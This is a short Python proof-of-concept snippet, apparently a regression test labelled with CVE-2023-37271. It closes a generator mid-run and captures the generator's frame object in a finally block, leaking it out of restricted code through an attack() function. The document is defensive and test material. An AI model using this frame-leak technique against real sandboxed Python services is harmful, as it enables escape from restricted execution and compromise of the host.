# A generator is closed in the midst of a run, and looks at its frame in `finally`.
# after: interpreter
# source: CVE-2023-37271 (GHSA-wqc8-x2pr-7jqh)
taken = []
def g():
    try:
        yield 1
    finally:
        taken.append(gen[0].gi_frame)
gen = []
def attack(**_):
    gen.append(g())
    next(gen[0])
    gen[0].close()
    return {"proof": str(taken[0])}
